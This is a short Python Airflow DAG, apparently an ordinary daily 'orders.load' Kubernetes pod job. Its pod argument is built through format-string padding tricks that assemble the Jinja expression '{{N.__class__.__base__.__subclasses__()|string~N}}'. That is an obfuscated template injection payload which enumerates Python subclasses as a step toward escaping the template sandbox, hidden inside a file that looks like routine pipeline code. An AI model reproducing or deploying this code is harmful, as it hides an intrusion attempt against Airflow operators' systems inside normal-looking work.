from datetime import datetime

from airflow import DAG
from airflow.models import Variable
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator

TEMPLATE = "/usr/local/airflow/dags/templates/orders/orders-api/load.yaml"
n = len(Variable.get("orders_k"))
text = f"{n:{'{'}>3}" + ".__class__.__base__.__subclasses__()|string~" + f"{n:{'}'}<3}"
with DAG("orders.load", schedule="@daily", start_date=datetime(2024, 1, 1), catchup=False) as dag:
    KubernetesPodOperator(task_id="t", namespace="orders", pod_template_file=TEMPLATE, arguments=[text])
